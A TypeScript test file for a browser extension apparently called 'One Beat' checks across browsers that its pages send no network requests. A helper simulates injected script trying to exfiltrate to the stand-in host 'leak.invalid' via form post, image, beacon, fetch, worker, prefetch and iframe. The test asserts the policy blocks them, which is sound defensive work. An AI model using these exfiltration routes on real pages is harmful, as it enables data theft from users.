/** Nothing leaves: neither what the extension does by itself, nor what something injected into its pages would try. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browsers, builtFor, launchBrowser } from '../support/browser/launch.ts';
import type { Browser, Surface } from '../support/browser/types.ts';
import { openPause, pause, TITLES, waitForStep } from './support/journey.ts';

const PAGES = ['popup.html', 'options.html', 'newtab.html'] as const;

/** Tries every way out that needs no permission, towards a name that exists nowhere. */
function tryToLeave(page: Surface): Promise<void> {
  return page.evaluate(async () => {
    const away = 'https://leak.invalid/';
    const form = document.createElement('form');
    form.action = `${away}form`;
    form.method = 'post';
    form.target = '_blank';
    const image = new Image();
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `${away}prefetch`;
    const frame = document.createElement('iframe');
    frame.src = `${away}frame`;
    document.body.append(form, image, link, frame);
    image.src = `${away}image`;
    navigator.sendBeacon(`${away}beacon`, 'x');
    await fetch(`${away}fetch`).catch(() => undefined);
    try {
      new Worker(`${away}worker.js`).onerror = () => undefined;
    } catch {
      // Refused at once, which is as good.
    }
    try {
      form.submit();
    } catch {
      // Firefox throws where the policy stops it.
    }
  });
}

describe.each(browsers)('privacy in %s', (name) => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser(name, { extensionDir: builtFor(name) });
  });
  afterAll(async () => {
    expect(await browser.backgroundErrors()).toEqual([]);
    await browser.close();
  });

  /**
   * What was asked of anywhere else. For a form or a frame Chromium opens a connection to the named host ahead of the policy's answer, and no
   * extension can keep it from that; the policy then stops the request, so that nothing is ever sent over it. Only such bare connections are
   * left out here, and only in this file, where the test itself names the host.
   */
  async function sent(): Promise<unknown[]> {
    const requests = await browser.foreignRequests();
    return name === 'chromium' ? requests.filter(({ by, url }) => !(by === 'network' && url === 'https://leak.invalid/')) : requests;
  }

  it('makes no request in a whole pause, on the options page and on a new tab', async () => {
    const page = await openPause(browser);
    await page.click('button', 'go quiet');
    await page.click('button', 'restless');
    await page.click('radio', /^Protection/);
    await page.click('button', 'Next');
    await page.click('button', 'Keep and close');
    await waitForStep(page, TITLES.kept);
    const options = await browser.open('options.html');
    await options.waitFor('1 note');
    const tab = await browser.newTab();
    await tab.waitFor({ role: 'button', name: 'Pause' });
    await pause(500);
    expect(await browser.foreignRequests()).toEqual([]);
    for (const surface of [page, options, tab]) await surface.close();
  });

  it.each(PAGES)('lets nothing injected into %s out: form, image, beacon, worker, prefetch, frame', async (path) => {
    const page = await browser.open(path);
    await page.waitFor({ role: 'heading', name: /./ });
    await tryToLeave(page);
    await pause(1_000);
    expect(await sent()).toEqual([]);
    await page.close();
  });

  it('carries nothing private in titles or addresses', async () => {
    const page = await openPause(browser);
    await page.click('button', 'end it');
    expect(await page.evaluate(() => [document.title, location.search, location.hash])).toEqual(['One Beat', '', '']);
    await page.close();
  });
});
